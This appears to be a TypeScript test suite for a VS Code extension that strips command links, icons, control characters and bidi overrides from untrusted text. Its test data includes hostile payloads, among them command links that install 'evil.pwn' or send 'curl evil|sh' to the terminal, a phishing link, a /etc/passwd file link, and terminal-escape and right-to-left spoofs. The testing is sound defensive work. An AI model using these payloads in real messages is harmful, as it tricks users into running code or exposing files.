// Foreign text made plain for each place VS Code shows it, checked against what VS Code 1.139 parses
// there: its notification link pattern and its codicon pattern, copied below as the oracle.
import assert from 'node:assert/strict';
import { CONTROL_CHARS, MAX_LABEL, cleanLabel, controlsEscaped, plainText, withoutControls } from '../../src/session/base/plainText';
import { exactHref } from '../../src/session/base/urls';

// src/vs/base/common/linkedText.ts (LINK_REGEX), as code-server 4.139.1 ships it, verbatim.
// eslint-disable-next-line no-useless-escape
const LINK_REGEX = /\[([^\]]+)\]\(((?:https?:\/\/|command:|file:)[^\)\s]+)(?: (["'])(.+?)(\3))?\)/gi;
// src/vs/base/browser/ui/iconLabel/iconLabels.ts (renderLabelWithIcons), with ThemeIcon's name and modifier expressions.
const ICON_REGEX = /(\\)?\$\(([A-Za-z0-9-]+(?:~[A-Za-z]+)?)\)/g;

/** The links a notification shows for `text` (NotificationViewItem.parseNotificationMessage). */
function notificationLinks(text: string): string[] {
  const message = text.replace(/(\r\n|\n|\r)/gm, ' ').trim();
  return [...message.matchAll(LINK_REGEX)].map((m) => m[2]);
}

/** What a label with icons shows: its text, and the icons drawn in it. */
function renderedLabel(text: string): { text: string; icons: string[] } {
  const icons: string[] = [];
  const shown = text.replace(ICON_REGEX, (_m, escaped: string | undefined, name: string) => {
    if (escaped) return `$(${name})`;
    icons.push(name);
    return '';
  });
  return { text: shown, icons };
}

const HOSTILE_LINKS: readonly string[] = [
  // What a real issuer got into a notification: VS Code decodes %2E before it runs the command.
  '[Install](command:workbench%2Eextensions%2EinstallExtension?%5B%22evil.pwn%22%5D)',
  '[Quit](command:workbench.action.quit)',
  '[Quit](COMMAND:workbench.action.quit)',
  '[Terminal](Command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22curl%20evil%7Csh%5Cn%22%7D)',
  '[Sign in again](https://evil.example/login)',
  '[passwd](file:///etc/passwd "Your settings")',
  '[[inner](command:a)](command:b)',
  '[one](command:a) and [two](https://b.example)',
  'Denied. [Details](command:workbench.action.openSettings?%5B%22http.proxy%22%5D) for alice',
];

describe('plain text in notifications', () => {
  for (const text of HOSTILE_LINKS) {
    it(`no link is left of ${JSON.stringify(text)}`, () => {
      assert.notDeepEqual(notificationLinks(text), [], 'the case is not a link in VS Code to begin with');
      const shown = plainText(text, 'notification');
      assert.deepEqual(notificationLinks(shown), []);
      assert.ok(!shown.includes(']('), shown);
      // Readable: only a space was put between "]" and "(".
      assert.equal(shown.replaceAll('] (', ']('), text);
    });
  }

  it('no link is left in a whole message built around hostile values', () => {
    const message = `Your session for ${HOSTILE_LINKS[1]} at Acme SSO has ended: http://127.0.0.1:1 no longer accepts this sign-in (invalid_grant: ${HOSTILE_LINKS[0]}). Sign in again.`;
    assert.deepEqual(notificationLinks(plainText(message, 'notification')), []);
  });

  it('a link split by a line break stays split', () => {
    const shown = plainText('[Quit]\n(command:workbench.action.quit)', 'notification');
    assert.deepEqual(notificationLinks(shown), []);
    assert.equal(shown, '[Quit] (command:workbench.action.quit)');
  });

  it('leaves ordinary text exactly as it was', () => {
    for (const text of [
      'alice@example.com',
      'Acme SSO (staging)',
      '[draft] notes',
      'f(x) = [1, 2]',
      'https://login.example.com/realms/dev',
      'Sign-in to Acme SSO failed: the code expired. Try another way?',
      'Costs $(5) today',
    ]) {
      assert.equal(plainText(text, 'notification'), text);
    }
  });

  it('notifications draw no icons, so $(name) is left as typed', () => {
    assert.equal(plainText('$(pass) alice', 'notification'), '$(pass) alice');
  });
});

describe('plain text in labels (quick picks, the status bar)', () => {
  const cases = ['$(pass) alice', '$(sync~spin) renewing', '$(zap)$(zap)', 'x$(account)y', 'mal$(LOADING~Spin)lory'];
  for (const text of cases) {
    it(`${JSON.stringify(text)} is drawn without icons and reads as typed`, () => {
      assert.notDeepEqual(renderedLabel(text).icons, [], 'the case draws no icon in VS Code to begin with');
      assert.deepEqual(renderedLabel(plainText(text, 'label')), { text, icons: [] });
    });
  }

  it('an icon that was escaped already still reads with its backslash', () => {
    assert.deepEqual(renderedLabel(plainText('\\$(pass) alice', 'label')), { text: '\\$(pass) alice', icons: [] });
  });

  it('what is no icon name gets no backslash', () => {
    for (const text of ['$(not an icon)', '$()', '$ (pass)', 'Costs $5 (net)']) assert.equal(plainText(text, 'label'), text);
  });

  it('labels parse no links, so brackets stay as typed', () => {
    assert.equal(plainText('[Quit](command:workbench.action.quit)', 'label'), '[Quit](command:workbench.action.quit)');
  });
});

describe('plain text in progress titles and input box prompts', () => {
  for (const surface of ['progress', 'prompt'] as const) {
    it(`${surface}: neither links nor icons`, () => {
      const text = '$(pass) [Quit](command:workbench.action.quit) alice';
      const shown = plainText(text, surface);
      assert.deepEqual(notificationLinks(shown), []);
      assert.deepEqual(renderedLabel(shown), { text: '$(pass) [Quit] (command:workbench.action.quit) alice', icons: [] });
    });
  }
});

describe('control characters', () => {
  it('are one rule: C0, C1, DEL, line separators and every bidi control', () => {
    for (const c of ['\u0000', '\n', '\r', '\t', '\u001b', '\u007f', '\u0085', '\u009b', '\u2028', '\u2029']) {
      assert.ok(CONTROL_CHARS.test(c), JSON.stringify(c));
    }
    for (const c of [
      '\u061c',
      '\u200e',
      '\u200f',
      '\u202a',
      '\u202b',
      '\u202c',
      '\u202d',
      '\u202e',
      '\u2066',
      '\u2067',
      '\u2068',
      '\u2069',
    ]) {
      assert.ok(CONTROL_CHARS.test(c), `U+${c.codePointAt(0)!.toString(16)}`);
    }
    // Joiners shape scripts and emoji; they stay.
    for (const c of ['\u200c', '\u200d', 'é', ' ']) assert.ok(!CONTROL_CHARS.test(c), JSON.stringify(c));
  });

  it('go from every surface; escape sequences go whole', () => {
    const text = 'ok \u001b[31mred\u001b[0m \u001b]8;;http://evil.example\u0007here\u001b]8;;\u0007\r\nnext\u202egnp.exe';
    assert.equal(withoutControls(text), 'ok red here next gnp.exe');
    for (const surface of ['notification', 'label', 'progress', 'prompt'] as const) {
      assert.ok(!CONTROL_CHARS.test(plainText(text, surface)), surface);
    }
  });

  it('are written as escapes for the log, so a line stays one line', () => {
    assert.equal(
      controlsEscaped('alice\n2026-01-01 12:00:00.000 [info] Signed in admin\r\t\u001b[2J\u202e'),
      'alice\\n2026-01-01 12:00:00.000 [info] Signed in admin\\r\\t\\u001b[2J\\u202e',
    );
    assert.equal(controlsEscaped('Refreshed the session of alice; valid for 5 min'), 'Refreshed the session of alice; valid for 5 min');
  });
});

describe('labels made from foreign text', () => {
  it('lose control characters and escape codes, and keep single spaces', () => {
    assert.equal(cleanLabel('  [Open](command:x)\u202e\n\u001b[31mmallory\u001b[0m\t\u00a0 admin '), '[Open](command:x) mallory admin');
  });

  it('are bounded, ending in "…", without splitting a character', () => {
    const long = cleanLabel('x'.repeat(500));
    assert.equal([...long].length, MAX_LABEL);
    assert.ok(long.endsWith('…'));
    // Cut by characters, not UTF-16 units: no half of a surrogate pair is left.
    assert.equal(cleanLabel('😀'.repeat(200)), `${'😀'.repeat(MAX_LABEL - 1)}…`);
    assert.equal(cleanLabel('alice@example.com'), 'alice@example.com');
  });

  it('of only control characters are empty', () => {
    assert.equal(cleanLabel('\u202e\n\u0000'), '');
  });
});

describe('URLs shown and then opened', () => {
  it('are their parsed href when parsing changes nothing', () => {
    assert.equal(exactHref('https://login.example.com/device'), 'https://login.example.com/device');
    assert.equal(exactHref('http://127.0.0.1:8080/device?x=1'), 'http://127.0.0.1:8080/device?x=1');
    assert.equal(exactHref('https://login.example.com'), 'https://login.example.com/');
  });

  it('are refused when parsing would change them', () => {
    for (const url of [
      'https://login.example.com/device [Open](command:x)',
      ' https://login.example.com/device',
      'https://login.example.com/a b',
      'HTTPS://Login.Example.com/device',
      'https://login.example.com/a/../device',
      'https:\\\\evil.example\\device',
      'https://login.example.com/dev\nice',
      'not a url',
    ]) {
      assert.equal(exactHref(url), undefined, JSON.stringify(url));
    }
  });
});
